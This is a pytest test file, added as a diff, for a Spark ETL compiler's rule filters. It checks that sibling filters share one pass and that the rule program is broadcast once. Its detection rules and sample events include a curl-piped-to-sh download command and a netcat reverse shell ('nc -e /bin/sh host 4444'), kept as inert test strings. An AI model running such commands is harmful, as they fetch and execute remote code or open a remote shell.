@@ -1,0 +1,112 @@
+"""Rule filters in Spark: one shipped program per version, sibling filters sharing one pass."""
+
+from __future__ import annotations
+
+import pytest
+
+from etl.compile import CompileContext, Compiler
+from etl.compile.transforms import filter as filter_mod
+from tests.spark.helpers import checked, run_events
+
+pytestmark = pytest.mark.spark
+
+SIBLINGS = """
+    name: t-siblings
+    sources: [{id: src, type: file, path: ., format: jsonl, schema: {cmd: string, code: bigint}}]
+    transforms:
+      - id: shells
+        type: filter
+        input: src
+        rules:
+          - {id: curl_sh, when: {field: cmd, regex: 'curl .*\\| *sh'}}
+          - {id: nc, when: {field: cmd, contains: 'nc -e'}}
+      - id: errors
+        type: filter
+        input: src
+        mode: drop
+        rules:
+          - {id: ok, when: {field: code, lt: 400}}
+      - id: tagged
+        type: filter
+        input: src
+        mode: tag
+        rules:
+          - {id: curl, when: {field: cmd, starts_with: curl}}
+          - {id: sh, when: {field: cmd, regex: '\\bsh\\b'}}
+          - {id: server, when: {field: code, ge: 500}}
+        expr: "code IS NOT NULL"
+      - id: other
+        type: filter
+        input: tagged
+        rules: [{id: any_sh, when: {field: cmd, contains: sh}}]
+    sinks:
+      - {id: out_shells, type: file, input: shells, path: o1}
+      - {id: out_errors, type: file, input: errors, path: o2}
+      - {id: out_tagged, type: file, input: tagged, path: o3}
+      - {id: out_other, type: file, input: other, path: o4}
+"""
+
+EVENTS = [
+    {"cmd": "curl http://x/a.sh | sh", "code": 200},
+    {"cmd": "nc -e /bin/sh host 4444", "code": 503},
+    {"cmd": "ls -la", "code": 404},
+    {"cmd": "bash -c true", "code": None},
+    {"cmd": None, "code": 500},
+]
+
+
+def test_sibling_filters_give_the_same_rows_as_alone(spark, tmp_path):
+    out = run_events(spark, tmp_path, SIBLINGS, {"src": EVENTS})
+    assert sorted(r["cmd"] for r in out["out_shells"]) == ["curl http://x/a.sh | sh", "nc -e /bin/sh host 4444"]
+    assert sorted((r["cmd"] or "", r["code"]) for r in out["out_errors"]) == [
+        ("", 500), ("bash -c true", None), ("ls -la", 404), ("nc -e /bin/sh host 4444", 503)]
+    tagged = {r["cmd"]: sorted(r["matched_rules"]) for r in out["out_tagged"]}
+    assert tagged == {"curl http://x/a.sh | sh": ["curl", "sh"], "nc -e /bin/sh host 4444": ["server", "sh"],
+                      "ls -la": [], None: ["server"]}
+    assert all(set(r) == {"cmd", "code", "matched_rules"} for r in out["out_tagged"])
+    assert sorted(r["cmd"] for r in out["out_other"]) == ["curl http://x/a.sh | sh", "nc -e /bin/sh host 4444"]
+    assert all(set(r) == {"cmd", "code"} for r in out["out_shells"] + out["out_errors"])
+
+
+def test_siblings_are_one_mapinarrow_pass_over_their_input(spark, tmp_path):
+    c = checked(tmp_path, SIBLINGS)
+    ctx = CompileContext(spark, c.plan.graph, str(tmp_path / "ck"), {"plan": c.plan})
+    assert [n.id for n in filter_mod.siblings(ctx, c.plan.graph.node("shells"))] == ["shells", "errors", "tagged"]
+    assert [n.id for n in filter_mod.siblings(ctx, c.plan.graph.node("other"))] == ["other"]
+    comp = Compiler(ctx)
+    df = spark.createDataFrame(EVENTS, "cmd string, code bigint")
+    from etl.compile import Query
+
+    q = Query("src", "src", None, [], ["shells", "errors", "tagged", "other"])
+    frames = {}
+    ctx.options["_batch_shared"] = shared = {}
+    for nid in q.nodes:
+        node = c.plan.graph.node(nid)
+        src = df if node.inputs[0].src == "src" else frames[node.inputs[0].src]
+        frames[nid] = comp._call(node, [src]).out
+    (entry,) = shared.values()
+    assert entry.users == {"shells", "errors", "tagged"}
+    plans = {nid: frames[nid]._jdf.queryExecution().analyzed().toString() for nid in ("shells", "errors", "tagged")}
+    for text in plans.values():
+        assert text.count("MapInArrow") == 1
+    # the three outputs read the very same merged pass (one program for all siblings)
+    shipped = ctx.options["_rule_broadcasts"]
+    assert list(shipped) == ["shells+errors+tagged", "other"]
+    merged = shipped["shells+errors+tagged"][0][1].value
+    assert merged.program.rule_ids == ("curl_sh", "nc", "ok", "curl", "sh", "server")
+
+
+def test_the_program_is_broadcast_once_not_pickled_per_batch(spark, tmp_path):
+    c = checked(tmp_path, """
+        name: t-ship
+        sources: [{id: src, type: file, path: ., format: jsonl, schema: {cmd: string}}]
+        transforms: [{id: f, type: filter, input: src, rules: [{id: a, when: {field: cmd, contains: a}}]}]
+        sinks: [{id: out, type: file, input: f, path: o}]
+    """)
+    ctx = CompileContext(spark, c.plan.graph, str(tmp_path / "ck"), {"plan": c.plan})
+    comp = Compiler(ctx)
+    node = c.plan.graph.node("f")
+    df = spark.createDataFrame([{"cmd": "a"}, {"cmd": "b"}], "cmd string")
+    got = [comp._call(node, [df]).out for _ in range(3)]  # three micro-batches
+    assert [r.cmd for r in got[2].collect()] == ["a"]
+    assert len(ctx.options["_rule_broadcasts"]["f"]) == 1  # one broadcast for the three
